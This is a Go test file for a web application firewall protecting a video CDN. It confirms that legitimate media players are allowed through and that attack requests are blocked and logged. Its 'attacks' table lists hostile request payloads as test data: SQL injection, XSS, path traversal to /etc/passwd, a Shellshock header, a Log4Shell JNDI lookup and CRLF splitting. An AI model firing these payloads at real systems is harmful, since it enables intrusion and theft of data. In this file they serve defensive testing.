package waf

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"
)

// keeper keeps what is logged.
type keeper struct {
	mu       sync.Mutex
	messages map[string][]Message // by group/stream
}

func (k *keeper) Append(_ context.Context, group, stream string, messages []Message) error {
	k.mu.Lock()
	defer k.mu.Unlock()
	if k.messages == nil {
		k.messages = map[string][]Message{}
	}
	k.messages[group+"/"+stream] = append(k.messages[group+"/"+stream], messages...)
	return nil
}

// request returns a request for a URL, with header lines.
func request(url string, header ...string) *Request {
	path, query, _ := strings.Cut(url, "?")
	r := &Request{
		Distribution: "E1", WebACL: "arn:acl", ID: "id==", Time: time.Now(), Method: "GET", Path: path, Query: query, Protocol: "HTTP/1.1", Scheme: "https",
		Host: "e1.cdn.localhost:8443", Client: netip.MustParseAddrPort("192.0.2.7:40000"), Header: http.Header{},
	}
	for _, line := range header {
		name, value, _ := strings.Cut(line, ": ")
		r.Header.Add(name, value)
	}
	return r
}

// players are the headers of ordinary viewers, as they were seen on the wire.
var players = map[string][]string{
	"hls.js in Chromium": {
		"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", "Accept: */*",
		"Accept-Encoding: gzip, deflate, br, zstd", "Accept-Language: en-US,en;q=0.9,de;q=0.8", "Origin: http://localhost:8080", "Referer: http://localhost:8080/_/player?url=https%3A%2F%2Fe1.cdn.localhost%2Fa.m3u8",
		`Sec-Ch-Ua: "Chromium";v="140", "Not=A?Brand";v="24"`, "Sec-Ch-Ua-Mobile: ?0", `Sec-Ch-Ua-Platform: "Linux"`, "Sec-Fetch-Dest: empty", "Sec-Fetch-Mode: cors", "Sec-Fetch-Site: cross-site", "Connection: keep-alive",
	},
	"Safari on iOS": {
		"User-Agent: AppleCoreMedia/1.0.0.22A3354 (iPhone; U; CPU OS 18_0 like Mac OS X; en_us)", "Accept: */*", "Accept-Language: en-US,en;q=0.9", "Accept-Encoding: identity",
		"X-Playback-Session-Id: 5D2B4A3C-4A56-4B8F-9D39-0E4F7A1C2B3D", "Range: bytes=0-1", "Connection: keep-alive",
	},
	"Safari on a Mac": {
		"User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15", "Accept: */*",
		"Accept-Language: de-DE,de;q=0.9", "Accept-Encoding: gzip, deflate, br", "Origin: https://video.example.com", "Referer: https://video.example.com/watch?v=dQw4w9WgXcQ&t=10s&list=PL'a", "Priority: u=3, i",
		"Cookie: _ga=GA1.2.1234567890.1700000000; _gid=GA1.2.98.76; sessionid=eyJhbGciOiJIUzI1NiJ9.e30.abc-_def; consent=%7B%22a%22%3Atrue%7D",
	},
	"Firefox":   {"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0", "Accept: */*", "Accept-Language: en-US,en;q=0.5", "Accept-Encoding: gzip, deflate, br, zstd", "Te: trailers", "Dnt: 1", "Sec-Gpc: 1", "If-None-Match: W/\"5f-18c\"", "If-Modified-Since: Tue, 24 Nov 2026 10:00:00 GMT"},
	"ffmpeg":    {"User-Agent: Lavf/59.27.100", "Accept: */*", "Range: bytes=0-", "Connection: keep-alive", "Icy-Metadata: 1"},
	"VLC":       {"User-Agent: VLC/3.0.20 LibVLC/3.0.20", "Accept: */*", "Accept-Language: en_US", "Range: bytes=0-"},
	"ExoPlayer": {"User-Agent: app/1.0 (Linux;Android 15) ExoPlayerLib/2.19.1", "Accept-Encoding: identity", "Connection: Keep-Alive"},
	"mpv":       {"User-Agent: libmpv", "Accept: */*", "Range: bytes=1048576-2097151"},
	"curl":      {"User-Agent: curl/7.88.1", "Accept: */*"},
	"wget":      {"User-Agent: Wget/1.21.3", "Accept: */*", "Accept-Encoding: identity", "Connection: Keep-Alive"},
	"Go":        {"User-Agent: Go-http-client/2.0", "Accept-Encoding: gzip"},
	"python":    {"User-Agent: python-requests/2.32.3", "Accept-Encoding: gzip, deflate", "Accept: */*", "Connection: keep-alive"},
	"a TV":      {"User-Agent: Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36", "Accept: */*"},
	"a proxy":   {"User-Agent: Mozilla/5.0", "Accept: */*", "X-Forwarded-For: 203.0.113.7, 10.0.0.1", "X-Forwarded-Proto: https", "Via: 1.1 squid (squid/5.7)", "Cache-Control: max-age=0", "Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
	"nobody":    {},
}

var urls = []string{
	"/index.m3u8", "/films/sintel/540p_00001.ts", "/films/sintel/540p/init.mp4", "/films/a/key.key", "/films/enc/k.bin?kid=6f1c-22", "/a/thumbs.0000001.jpg", "/sub/en.vtt",
	"/Film%20(2024)/1080p%20HDR/seg-00001.m4s", "/K%C3%B6ln/%E6%98%A0%E7%94%BB.m3u8", "/Bob's%20film%20&%20more/index.m3u8", "/live/x.m3u8?_HLS_msn=273&_HLS_part=2&_HLS_skip=YES",
	"/films/select%20from%20the%20best/1.ts", "/a/b.ts?v=1700000000&cb=0.123456789", "/a.mpd", "/a/b+c.mp4", "/$dt$/a.ts", "/a.ts?CMCD=br%3D3200%2Cbs%2Cd%3D4004%2Csid%3D%226e2fb550-c457-11e9-bb97-0800200c9a66%22%2Ct%3D4100",
}

func TestPlayersAreNotBlocked(t *testing.T) {
	log := &keeper{}
	f := New(Config{Log: log})
	for name, header := range players {
		for _, url := range urls {
			for _, protocol := range []string{"HTTP/1.1", "HTTP/2.0"} {
				for _, method := range []string{"GET", "HEAD", "OPTIONS"} {
					r := request(url, header...)
					r.Protocol, r.Method = protocol, method
					if f.Block(r) {
						f.flush(t.Context())
						t.Errorf("%s, %s %s %s: blocked by %v", name, method, url, protocol, log.messages)
					}
				}
			}
		}
	}
	if s := f.Stats()["E1"]; s.Blocked != 0 || s.Requests == 0 {
		t.Errorf("%+v", s)
	}
}

var attacks = map[string]*Request{
	"sql in a query":     request("/a.ts?id=1%27%20or%20%271%27=%271"),
	"sql, union":         request("/a.ts?id=1+UNION+SELECT+password+FROM+users--"),
	"script in a query":  request("/a.ts?q=%3Cscript%3Ealert(1)%3C/script%3E"),
	"script in a cookie": request("/a.ts", "Cookie: a=<script>alert(1)</script>"),
	"traversal":          request("/a/%2e%2e/%2e%2e/etc/passwd"),
	"a file of secrets":  request("/.git/config"),
	"environment":        request("/.env"),
	"shell in a header":  request("/a.ts", "User-Agent: () { :; }; /bin/cat /etc/passwd"),
	"log4shell":          request("/a.ts", "User-Agent: ${jndi:ldap://x.example/a}"),
	"shell in a query":   request("/a.ts?x=;cat%20/etc/passwd"),
	"a scanner":          request("/a.ts", "User-Agent: sqlmap/1.7"),
	"php":                request("/x.php?a=php://filter/convert.base64-encode/resource=index.php"),
	"splitting":          request("/a.ts?x=%0d%0aSet-Cookie:%20a=b"),
	"a backup":           request("/config.bak"),
}

func TestAttacksAreBlockedAndLogged(t *testing.T) {
	log := &keeper{}
	f := New(Config{Log: log})
	for name, r := range attacks {
		if r.Header.Get("User-Agent") == "" {
			r.Header.Set("User-Agent", "Mozilla/5.0")
		}
		r.Header.Set("Authorization", "Bearer secret")
		for range 2 { // nothing that matches is remembered
			if !f.Block(r) {
				t.Errorf("%s is let through", name)
			}
		}
	}
	f.flush(t.Context())
	messages := log.messages["aws-waf-logs-E1/cloudfront_E1_0"]
	if len(messages) != 2*len(attacks) {
		t.Errorf("%d messages in %d logs", len(messages), len(log.messages))
	}
	for _, m := range messages {
		var e struct {
			Timestamp         int64
			Action            string
			TerminatingRuleID string
			HTTPSourceID      string
			WebACLID          string
			RuleGroupList     []struct {
				TerminatingRule struct{ RuleID, Action string }
			}
			HTTPRequest struct {
				ClientIP, URI, HTTPMethod, RequestID string
				Headers                              []struct{ Name, Value string }
			}
		}
		if err := json.Unmarshal([]byte(m.Text), &e); err != nil {
			t.Fatal(err)
		}
		if e.Action != "BLOCK" || e.TerminatingRuleID == "" || e.HTTPSourceID != "E1" || e.WebACLID != "arn:acl" || e.HTTPRequest.ClientIP != "192.0.2.7" || e.HTTPRequest.RequestID != "id==" ||
			e.RuleGroupList[0].TerminatingRule.Action != "BLOCK" || e.Timestamp < 1e12 {
			t.Errorf("%+v", e)
		}
		if strings.Contains(m.Text, "Bearer secret") {
			t.Errorf("a secret is logged: %s", m.Text)
		}
	}
	if s := f.Stats()["E1"]; s.Blocked != int64(2*len(attacks)) || s.Matched != s.Blocked {
		t.Errorf("%+v", s)
	}
}

func TestCountModeLetsEverythingThroughAndTells(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		log := &keeper{}
		f := New(Config{Log: log})
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan error)
		go func() { done <- f.Run(ctx) }()
		for range 3 {
			f.Count(request("/.git/config", "User-Agent: x"))
		}
		for i := range 500 {
			f.Count(request(fmt.Sprintf("/films/540p_%05d.ts", i), players["hls.js in Chromium"]...))
			synctest.Wait()
		}
		time.Sleep(time.Minute) // the worker rests between requests
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
		s := f.Stats()["E1"]
		if s.Requests != 503 || s.Matched != 3 || s.Blocked != 0 || len(f.known.shapes) != 1 {
			t.Errorf("%+v, %d shapes", s, len(f.known.shapes))
		}
		messages := log.messages["aws-waf-logs-E1/cloudfront_E1_0"]
		if len(messages) != 3 || !strings.Contains(messages[0].Text, `"action":"ALLOW"`) || !strings.Contains(messages[0].Text, `"ruleId":"OWASP#CoreRuleSet","action":"COUNT"`) {
			t.Errorf("%d messages: %v", len(messages), messages)
		}
	})
}

func TestAFloodIsSkippedNotQueued(t *testing.T) {
	f := New(Config{})
	for i := range 3 * maxQueue {
		f.Count(request("/a.ts?x=" + fmt.Sprint(i)))
	}
	if s := f.Stats()["E1"]; s.Skipped != 2*maxQueue {
		t.Errorf("%+v", s)
	}
}

func TestShapes(t *testing.T) {
	f := New(Config{})
	key := func(r *Request) shape { return f.known.key(r) }
	h := []string{"User-Agent: a", "Accept: b", "Range: bytes=0-99", `If-None-Match: "0123abcdef"`}
	same := key(request("/a/b_00001.ts", h...))
	for _, r := range []*Request{
		request("/a/b_2.ts", h...), request("/a/b_00001.ts", h[3], h[2], h[1], h[0]), request("/a/b_00001.ts", h[0], h[1], "Range: bytes=5-", h[3]),
		request("/a/b_00001.ts", h[0], h[1], h[2], `If-None-Match: W/"ffff-2"`),
	} {
		if key(r) != same {
			t.Errorf("%+v differs", r)
		}
	}
	for _, r := range []*Request{
		request("/a/c_00001.ts", h...), request("/b/b_00001.ts", h...), request("/a/b_00001.ts?x", h...), request("/a/b_00001.ts", h[:3]...), request("/a/b_00001.ts", append(h, "X: y")...),
		request("/a/b_00001.ts", h[0], h[1], "Range: bytes=0-1,5-9", h[3]), request("/a/b_00001.ts", h[0], h[1], h[2], "If-None-Match: ' or 1=1--"),
		request("/a/b_00001.ts", h[0], "Accept: b'", h[2], h[3]), request("/a1/b_00001.ts", h...), request("/a/b_%30.ts", h...), request("/a/../b_1.ts", h...),
		request("/a/b_00001.ts", "User-Agent: a", "User-Agent: b", h[1], h[2], h[3]),
	} {
		if key(r) == same {
			t.Errorf("%+v is taken for the same", r)
		}
	}
	if a, b := key(request("/1=1.ts")), key(request("/1=2.ts")); a == b {
		t.Error("numbers count as alike outside of plain names")
	}
}

func TestNothingIsCompiledBeforeItIsNeeded(t *testing.T) {
	n := testing.AllocsPerRun(10, func() { New(Config{}) })
	if n > 50 {
		t.Errorf("%v allocations", n)
	}
}

func BenchmarkRemembered(b *testing.B) {
	f := New(Config{})
	r := request("/films/540p_00001.ts", players["hls.js in Chromium"]...)
	f.Block(r)
	b.ReportAllocs()
	for b.Loop() {
		if f.Block(r) {
			b.Fatal("blocked")
		}
	}
}

func BenchmarkEvaluated(b *testing.B) {
	f := New(Config{})
	r := request("/films/540p_00001.ts", players["hls.js in Chromium"]...)
	f.Block(r)
	b.ReportAllocs()
	for b.Loop() {
		f.evaluate(r, shape{}, true)
	}
}
